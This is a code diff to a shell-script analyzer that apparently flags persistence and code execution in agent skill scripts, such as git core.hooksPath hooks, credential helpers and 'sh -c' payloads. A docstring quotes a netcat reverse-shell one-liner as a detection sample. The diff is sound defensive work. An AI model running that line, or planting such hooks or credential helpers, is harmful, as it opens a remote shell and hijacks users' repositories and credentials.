@@ -1058,9 +1058,10 @@ class _Walker:
             if setting and (not texts[idx + 1 :] or _GIT_CONFIG_READS.intersection(texts[1:idx])):
                 setting = None  # `git config --get-all credential.helper` (or no value) reads the setting
             if setting:
+                hooks = self.hooks_held(later) if key.lower() == "core.hookspath" else ()
                 self.out.emit(
-                    Kind.PERSISTENCE, f"{setting}" + (" (runs code)" if runs_code(later) else ""),
-                    self.out.at(line, f"sets {key} = {later}"),
+                    Kind.PERSISTENCE, f"{setting}" + (" (runs code)" if runs_code(later) or hooks else ""),
+                    *hooks, self.out.at(line, f"sets {key} = {later}"),
                 )  # fmt: skip
             if setting and key.lower().endswith("credential.helper"):
                 shaped = " ".join(a.pattern or "?" for a in args[idx + 1 :])  # !python3 */scripts/cred.py
@@ -1342,9 +1343,7 @@ class _Walker:
             template = next((t for t in texts if t and not t.startswith("-")), None)
             return Value(template or f"/tmp/tmp.mktemp-{line}")
         if name == "read":
-            for text in texts:
-                if text and not text.startswith("-") and re.fullmatch(r"\w+", text):
-                    self.variables[text] = Value(None, stdin.origins)
+            self.read_into(texts, stdin)
             return UNKNOWN
         if name in ("mapfile", "readarray"):  # the lines of its input, into an array (MAPFILE by default)
             arrays = [t for t in texts if t and re.fullmatch(r"[A-Za-z_]\w*", t)]
@@ -1370,6 +1369,42 @@ class _Walker:
         if handed is not None:
             return handed
         return Value(None, merged(tuple(origins)))
+
+    def hooks_held(self, folder: str) -> tuple[Evidence, ...]:
+        """Where the hooks a skill wrote into the folder ``core.hooksPath`` names were decoded or
+        downloaded (this snippet or another): git runs them on every commit, push or checkout of every
+        repository, so they are the setting's code."""
+        folder = vocabulary.home_path(folder.strip("'\" ").rstrip("/"))
+        if not folder or "?" in folder or "*" in folder:
+            return ()
+        held = self.files.get(folder + "/*")
+        if held is None:
+            return ()
+        return tuple(o.evidence for o in held.origins if o.source in (Source.FETCHED, Source.DECODED))
+
+    def read_into(self, texts: list[str | None], stdin: Value) -> None:
+        """``read`` sets its variables from its input: one variable gets the first line, or all of it
+        with ``-d ''`` (``read -r -d '' BLOCK <<'EOF'`` is how a script holds a block it writes later),
+        its text when known; several get what the input carries, their split not followed."""
+        names: list[str] = []
+        whole = False
+        index = 0
+        while index < len(texts):
+            text = texts[index] or ""
+            if text.startswith("-"):
+                valued = text[-1] in _READ_VALUE_FLAGS
+                if valued and text.endswith("d"):
+                    whole = index + 1 < len(texts) and texts[index + 1] == ""
+                index += 2 if valued else 1
+                continue
+            if re.fullmatch(r"[A-Za-z_]\w*", text):
+                names.append(text)
+            index += 1
+        for variable in names:
+            self.variables[variable] = Value(None, stdin.origins)
+        if len(names) == 1 and stdin.text is not None:
+            read = stdin.text if whole else stdin.text.split("\n", 1)[0]
+            self.variables[names[0]] = Value(read.strip(), stdin.origins)
 
     def written_files_listed(self, args: list[Value]) -> Value | None:
         """What ``ls`` prints for one operand that names a file this step or another wrote (``ls -1t
@@ -2186,7 +2221,7 @@ class _Walker:
                     if asked is not None:
                         return asked
                 elif not interpreter:
-                    self.nested(code, line, stdin)  # `sh -c '…'` reads the stdin it was given
+                    self.nested(_with_unknowns_shown(code), line, stdin)  # `sh -c '…'` reads the stdin it was given
                 elif name in ("python", "python3") and code.text:
                     self.python(code.text, line)
                 elif name in ("node", "nodejs", "bun", "deno") and code.text:
@@ -3924,6 +3959,19 @@ def _named_file(shape: str | None) -> bool:
 
 _IFS_EXPANSION = re.compile(rb"\$\{?IFS\b")
 """``$IFS`` expanded (not ``IFS= read`` inside a script handed to ``bash -c``): the word splits there."""
+
+
+_READ_VALUE_FLAGS = frozenset("dinNptu")
+"""``read``'s options that take the next word (``-p "prompt"``, ``-d ''``, ``-t 5``)."""
+
+
+def _with_unknowns_shown(code: Value) -> Value:
+    """Code for ``sh -c`` with pieces known only at run time (``sh -c "cat $fifo | sh -i | nc $h 4444 >
+    $fifo"`` with ``fifo=/tmp/.s$id``): its shape, unknown pieces as ``*``, is still the program that
+    runs, as a script written with such pieces is read (:meth:`_Walker.run_written`)."""
+    if code.text is not None or not code.shape:
+        return code
+    return Value(code.shape, code.origins)
 
 
 def _split_words(values: list[Value]) -> list[Value]:
